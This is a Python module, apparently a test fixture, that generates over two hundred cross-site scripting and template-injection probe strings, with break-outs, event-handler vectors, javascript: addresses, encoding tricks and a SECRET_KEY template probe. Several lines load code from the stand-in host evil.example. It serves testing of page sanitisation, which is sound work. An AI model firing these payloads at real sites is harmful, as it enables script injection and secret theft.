"""Strings that would run a script if a page took them for markup, for an attribute, an address, a script or a template.

Two hundred and more: every way to run something, behind every way to break out of where a page may have put it. Each
leaves a mark that a test can look for: `window.ran`, or an element that bears `data-ran`.
"""

from collections.abc import Iterator, Sequence

MARK = "window.ran=1"

# Out of an element's text, of attributes in either quotes or none, of comments, titles, scripts, styles and templates.
BREAKOUTS = (
    "", '">', "'>", "`>", " ", "-->", "</title>", "</textarea>", "</script>", "</style>", "</option></select>",
    "</text></svg>", "]]>", "</template>", '\\">', "&quot;>",
)  # fmt: skip
VECTORS = (
    f"<script data-ran>{MARK}</script>",
    f"<img data-ran src=x: onerror={MARK}>",
    f"<svg data-ran onload={MARK}>",
    f"<details data-ran open ontoggle={MARK}>",
    f"<input data-ran autofocus onfocus={MARK}>",
    f'<iframe data-ran srcdoc="<script>parent.{MARK}</script>"></iframe>',
    f"<a data-ran href=javascript:{MARK}>go</a>",
    f"<math data-ran><mtext><style><img src=x: onerror={MARK}></style></mtext></math>",
    f'<div data-ran x-data x-init="{MARK}"></div>',
    f'<button data-ran hx-on:click="{MARK}" hx-get="/" hx-trigger="load">x</button>',
    "<style data-ran>*{outline:9px solid rgb(1,2,3)}</style>",
    "<base data-ran href=https://evil.example/><link data-ran rel=stylesheet href=//evil.example/x.css>",
)
ATTRIBUTES = (
    f'" onmouseover="{MARK}" data-ran="',
    f"' onfocus='{MARK}' autofocus data-ran='",
    '" style="background:url(//evil.example/x)" data-ran="',
    f'" x-init="{MARK}" data-ran="',
    f"' @click='{MARK}' :class='{MARK}' data-ran='",
    f'" hx-on:load="{MARK}" data-ran="',
    f' onerror={MARK} data-ran=1',
    f'x" accesskey="x" onclick="{MARK}" data-ran="',
)  # fmt: skip
EXPRESSIONS = (
    f"'+({MARK})+'", f'"+({MARK})+"', f"';{MARK};//", f'";{MARK};//', f"\\';{MARK};//", f"${{{MARK}}}", f"`+{MARK}+`",
    f"'}};{MARK};//", f"')||({MARK})||('", f"{{{{constructor.constructor('{MARK}')()}}}}", "{{1187*1193}}",
    "{% debug %}", "{{ settings.SECRET_KEY }}", "<%= 1187*1193 %>", "#{1187*1193}", "%(who)s %s %d", "{0.__class__}",
)  # fmt: skip
ADDRESSES = (
    f"javascript:{MARK}", f"JaVaScRiPt:{MARK}", f"java\tscript:{MARK}", f"\x01javascript:{MARK}",
    f"javascript&colon;{MARK}", f"data:text/html,<script>parent.{MARK}</script>", f"vbscript:{MARK}",
    "//evil.example/x.js", "https://evil.example/\"><script data-ran>", "\\\\evil.example\\x",
)  # fmt: skip
ODD = (
    f"<ScRiPt data-ran>{MARK}</sCrIpT>", f"<<script data-ran>{MARK}//<</script>", f"<script/data-ran>{MARK}</script>",
    f"<img data-ran src=x: onerror\u00a0={MARK}>", f"\u202e<script data-ran>{MARK}</script>\u202c",
    f"\ufeff<script data-ran>{MARK}</script>", f"<scr\u200bipt data-ran>{MARK}</script>",
    f"&lt;script data-ran&gt;{MARK}&lt;/script&gt;", f"&#60;img data-ran src=x: onerror={MARK}&#62;",
    f"\u003cimg data-ran src=x: onerror={MARK}\u003e", f"%3Cscript data-ran%3E{MARK}%3C/script%3E",
    f"+ADw-script data-ran+AD4-{MARK}+ADw-/script+AD4-", f"＜script data-ran＞{MARK}＜/script＞",
    "<!--", "<![CDATA[", "<plaintext data-ran>", "<xmp data-ran>",
    "<noscript><p title=\"</noscript><img data-ran src=x:\">",
    f"<svg data-ran><animate onbegin={MARK} attributeName=x dur=1s>", f"<svg><script data-ran>{MARK}</script></svg>",
    f"<form data-ran action=javascript:{MARK}><input type=submit></form>",
    "<meta data-ran http-equiv=refresh content=0>",
    f"<object data-ran data=javascript:{MARK}>", f"<embed data-ran src=javascript:{MARK}>",
    f"<video data-ran><source onerror={MARK}></video>", f"<body data-ran onload={MARK}>", "]]></text><script data-ran>",
)  # fmt: skip

STRINGS: Sequence[str] = tuple(
    dict.fromkeys(
        [b + v for v in VECTORS for b in BREAKOUTS] + [*ATTRIBUTES, *EXPRESSIONS, *ADDRESSES, *ODD],
    )
)


def pack(most: int) -> Iterator[str]:
    """All the strings, packed into as few texts of at most so many characters as they fit into in order."""
    held = ""
    for string in STRINGS:
        string = string[:most]
        if len(held) + 1 + len(string) > most and held:
            yield held
            held = ""
        held = f"{held} {string}" if held else string
    yield held
